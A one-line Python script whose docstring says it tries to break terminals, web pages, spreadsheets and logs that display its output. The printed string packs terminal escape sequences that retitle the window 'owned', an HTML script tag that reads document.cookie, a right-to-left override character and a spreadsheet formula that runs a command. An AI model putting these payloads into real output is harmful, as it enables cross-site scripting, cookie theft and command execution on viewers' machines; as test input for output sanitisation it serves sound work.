"""Tries to break what shows its output: terminal, page, spreadsheet, log."""

print("\x1b[2J\x1b]0;owned\x07</td></table><script>alert(document.cookie)</script>\u202e=cmd|'/c calc'!A1")
